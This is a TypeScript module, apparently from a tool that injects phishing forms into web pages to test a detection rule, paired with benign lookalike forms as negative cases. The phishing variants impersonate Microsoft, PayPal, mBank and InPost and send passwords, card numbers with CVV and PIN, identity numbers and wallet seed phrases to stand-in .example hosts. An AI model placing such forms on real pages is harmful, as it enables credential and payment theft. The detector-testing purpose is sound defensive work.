// Forms that collect secrets for a third party.
import type { Change, Injection, InjectionContext } from '../injection.ts';
import { amongContent, atBodyEnd, atBodyStart } from '../places.ts';
import type { Lang } from '../wording/vocabulary.ts';

const change = (name: string, inject: Change['inject'], lang?: Lang): Change => ({
  name,
  ...(lang ? { lang } : {}),
  inject,
});
const siteOfHost = ({ host }: InjectionContext): string => new URL(host.url).hostname;

const variants: Change[] = [
  change('password to another site', (html) =>
    atBodyStart(
      html,
      '<form action="https://www.account-verify-center.example/save.php" method="post"><h2>Session expired</h2><p>Please sign in again to continue.</p><input type="email" name="email"><input type="password" name="pass"><button>Sign in</button></form>',
    ),
  ),
  change('mail login of a brand', (html) =>
    atBodyEnd(
      html,
      '<div class="login-box"><img src="/office.png" alt="Microsoft"><h1>Sign in to your Microsoft account</h1><form method="post" action="https://www.doc-viewer-login.example/auth"><input name="user" type="email" placeholder="Email"><input name="pwd" type="password" placeholder="Password"><button>View document</button></form></div>',
    ),
  ),
  change('card data over an open line', (html, context) =>
    amongContent(
      html,
      context,
      `<form method="post" action="http://${siteOfHost(context)}/pay.php"><label>Card number <input name="cardnumber" autocomplete="cc-number"></label><label>Expiry <input name="exp"></label><label>CVV <input name="cvv"></label><button>Pay delivery fee of $1.99</button></form>`,
    ),
  ),
  change('card and PIN to another site', (html) =>
    atBodyEnd(
      html,
      '<form action="https://parcel-fee-pay.example/p.php" method="POST"><p>Your parcel is on hold. Pay the customs fee.</p><input name="card_number" placeholder="Card number"><input name="cvc" placeholder="CVC"><input name="pin" placeholder="ATM PIN"><button>Pay now</button></form>',
    ),
  ),
  change('bank of a brand', (html) =>
    atBodyStart(
      html,
      '<section id="pp"><h2>PayPal: confirm your identity</h2><p>Your PayPal account has been limited.</p><form action="https://secure-confirm-id.example/step2"><input type="text" name="login_email"><input type="password" name="login_password"><input name="ssn" placeholder="Social security number"><button>Confirm</button></form></section>',
    ),
  ),
  change('wallet words', (html) =>
    atBodyEnd(
      html,
      '<form action="https://www.wallet-restore.example/api"><h3>Restore your wallet</h3><textarea name="seed_phrase" placeholder="Enter your 12-word recovery phrase"></textarea><input type="password" name="wallet_password"><button>Restore</button></form>',
    ),
  ),
  change(
    'bank login, Polish',
    (html) =>
      atBodyStart(
        html,
        '<form action="https://www.bankowosc-weryfikacja.example/zapisz.php" method="post"><h2>mBank – zaloguj się</h2><input name="identyfikator" placeholder="Identyfikator"><input type="password" name="haslo" placeholder="Hasło"><input name="pesel" placeholder="PESEL"><button>Zaloguj się</button></form>',
      ),
    'pl',
  ),
  change(
    'parcel fee, Polish',
    (html, context) =>
      amongContent(
        html,
        context,
        '<form action="https://doplata-paczka.example/p" method="post"><p>Dopłać 1,50 zł do przesyłki InPost.</p><input name="numer_karty" placeholder="Numer karty"><input name="cvv" placeholder="CVV"><input name="pin" placeholder="PIN"><button>Zapłać</button></form>',
      ),
    'pl',
  ),
];

const lookalikes: Change[] = [
  change('login of the site', (html) =>
    atBodyEnd(
      html,
      '<form action="/login" method="post"><input name="username"><input type="password" name="password"><button>Sign in</button></form>',
    ),
  ),
  change('login on a host of the same site', (html, context) =>
    atBodyEnd(
      html,
      `<form action="https://accounts.${siteOfHost(context).replace(/^www\./, '')}/login" method="post"><input name="username"><input type="password" name="password"><button>Sign in</button></form>`,
    ),
  ),
  change('newsletter at a service', (html) =>
    atBodyEnd(
      html,
      '<form action="https://riverside.us1.list-manage.com/subscribe/post" method="post"><input type="email" name="EMAIL"><button>Subscribe</button></form>',
    ),
  ),
  change('payment at a gateway', (html) =>
    atBodyEnd(
      html,
      '<form action="https://www.paypal.com/cgi-bin/webscr" method="post"><input type="hidden" name="cmd" value="_s-xclick"><input type="image" src="/donate.gif" alt="Donate with PayPal"></form>',
    ),
  ),
  change('sign in with another account', (html) =>
    atBodyEnd(
      html,
      '<form action="/session" method="post"><input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form><a href="https://accounts.google.com/o/oauth2/auth?client_id=1">Sign in with Google</a>',
    ),
  ),
  change('search', (html) =>
    atBodyEnd(
      html,
      '<form action="https://www.google.com/search"><input name="q"><input type="hidden" name="sitesearch" value="riverside.example"><button>Search</button></form>',
    ),
  ),
  change('pin board', (html, context) =>
    amongContent(
      html,
      context,
      '<form action="/pins"><label>Pin code of your area <input name="pincode" maxlength="6"></label><button>Check delivery</button></form>',
    ),
  ),
  change(
    'registration, Polish',
    (html) =>
      atBodyEnd(
        html,
        '<form action="/rejestracja" method="post"><input name="email" type="email"><input name="haslo" type="password"><button>Załóż konto</button></form>',
      ),
    'pl',
  ),
];

export const phishingForm: Injection = {
  technique: 'phishing-form',
  rules: ['sp_phish_form'],
  unlessHostMentions: /microsoft|paypal|mbank|inpost/i,
  variants,
  lookalikes,
};
